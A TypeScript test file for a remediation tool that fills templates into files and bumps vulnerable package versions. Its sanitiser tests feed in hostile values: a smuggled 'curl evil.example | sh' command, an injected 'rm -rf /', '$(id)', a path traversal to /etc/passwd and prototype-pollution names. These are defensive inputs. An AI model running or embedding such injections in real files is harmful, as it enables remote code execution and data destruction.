import { describe, expect, it } from 'vitest';
import type { PlaybookConfig } from '../../../engine/config/schema/policy.ts';
import { fill, safeValues, unknownPlaceholders } from '../../../engine/prs/placeholders.ts';
import { applyPlaybookEdit, fixedVersion, planPlaybook, playbookProblems, unitValues } from '../../../engine/prs/playbook.ts';
import { decision } from '../mobilise/factory.ts';

describe('playbook placeholders', () => {
  it('fill only the listed names, with plain text (no expressions, no paths into objects)', () => {
    expect(fill('FROM node:{{ package.fixed_version }}-alpine', { 'package.fixed_version': '20.11.1' })).toEqual({ text: 'FROM node:20.11.1-alpine' });
    expect(fill('{{constructor.constructor}}', {})).toEqual({ missing: 'constructor.constructor' });
    expect(fill('{{__proto__}}', { asset: 'x' })).toEqual({ missing: '__proto__' });
    expect(fill('a {{asset}} and an unclosed {{ brace', { asset: 'web' })).toEqual({ text: 'a web and an unclosed {{ brace' });
    expect(unknownPlaceholders('{{asset}} {{package.name}} {{env.GITHUB_TOKEN}}')).toEqual(['env.GITHUB_TOKEN']);
  });

  it('refuse scanner values that are not plain names or versions (they are about to be written into a file)', () => {
    expect(safeValues({ 'package.fixed_version': '1.2.3"; curl evil.example | sh; "', 'package.name': 'lodash', asset: 'web\nRUN rm -rf /' })).toEqual({ 'package.name': 'lodash' });
    expect(safeValues({ 'package.fixed_version': '2.17.1', 'package.installed_version': '1:2.3-4ubuntu1', 'package.name': '@scope/pkg', repository: 'acme/web' })).toEqual({
      'package.fixed_version': '2.17.1',
      'package.installed_version': '1:2.3-4ubuntu1',
      'package.name': '@scope/pkg',
      repository: 'acme/web',
    });
    expect(safeValues({ 'package.fixed_version': '$(id)', 'package.name': '../../etc/passwd x' })).toEqual({});
  });
});

describe('the version that fixes a remediation unit', () => {
  it('is the highest of the lowest fixes above each installed version', () => {
    const ds = [
      decision({ fingerprint: 'a1', asset: 'web', pkg: 'log4j', installed: '2.14.0', fixed: ['2.15.0', '2.12.2'] }),
      decision({ fingerprint: 'a2', asset: 'web', pkg: 'log4j', installed: '2.14.0', fixed: ['2.16.0', '2.12.3'] }),
      decision({ fingerprint: 'a3', asset: 'web', pkg: 'log4j', installed: '2.14.0', fixed: ['2.17.1'] }),
    ];
    expect(fixedVersion(ds)).toBe('2.17.1');
  });

  it('is unknown when an exposure has no fix, or versions disagree and cannot be compared', () => {
    expect(fixedVersion([decision({ fingerprint: 'a', asset: 'w', pkg: 'p', fixed: [] })])).toBeUndefined();
    expect(fixedVersion([decision({ fingerprint: 'a', asset: 'w', pkg: 'p', installed: '1:1.0-1', fixed: ['1:1.0-2'] }), decision({ fingerprint: 'b', asset: 'w', pkg: 'p', installed: '1:1.0-1', fixed: ['1:1.0-3'] })])).toBeUndefined();
    expect(fixedVersion([decision({ fingerprint: 'a', asset: 'w', pkg: 'p', installed: '1:1.0-1', fixed: ['1:1.0-2'] })])).toBe('1:1.0-2');
  });
});

describe('planning a playbook edit', () => {
  const bump: PlaybookConfig = { file: 'package.json', packages: ['jquery'], replace: { from: '"jquery": "{{package.installed_version}}"', to: '"jquery": "{{package.fixed_version}}"' } };
  const unit = { asset: 'storefront-web', decisions: [decision({ fingerprint: 'j1', asset: 'storefront-web', pkg: 'jquery', installed: '3.3.9', fixed: ['3.4.0'] })] };

  it('renders a literal replacement from the unit', () => {
    const values = unitValues(unit, 'acme/storefront-web');
    expect(values).toEqual({ asset: 'storefront-web', repository: 'acme/storefront-web', 'package.name': 'jquery', 'package.ecosystem': 'npm', 'package.installed_version': '3.3.9', 'package.fixed_version': '3.4.0' });
    expect(planPlaybook(bump, values, 'jquery')).toEqual({ edit: { kind: 'replace', from: '"jquery": "3.3.9"', to: '"jquery": "3.4.0"' }, title: undefined });
  });

  it('skips units of other packages, and units without a safe value for a placeholder', () => {
    expect(planPlaybook(bump, unitValues(unit, 'acme/x'), 'lodash')).toEqual({ skip: 'package not listed by the playbook' });
    const noFix = { asset: 'w', decisions: [decision({ fingerprint: 'j', asset: 'w', pkg: 'jquery', fixed: [] })] };
    expect(planPlaybook(bump, unitValues(noFix, 'acme/x'), 'jquery')).toEqual({ skip: 'no safe value for {{package.fixed_version}}' });
  });

  it('replaces text literally: characters that mean something in a regular expression mean nothing here', () => {
    const edit = { kind: 'replace' as const, from: '(a+)+$', to: 'safe' };
    expect(applyPlaybookEdit(edit, 'x (a+)+$ y (a+)+$')).toBe('x safe y safe');
    expect(applyPlaybookEdit(edit, 'a'.repeat(100_000) + '!')).toBeUndefined();
    expect(applyPlaybookEdit({ kind: 'content', text: 'new' }, undefined)).toBe('new');
  });

  it('reports playbooks that cannot work', () => {
    expect(playbookProblems({ file: 'Dockerfile' } as PlaybookConfig)).toEqual(['a playbook needs exactly one of `replace` or `content`']);
    expect(playbookProblems({ file: 'x', content: '{{process.env}}' })).toEqual(['unknown placeholder {{process.env}}']);
  });
});
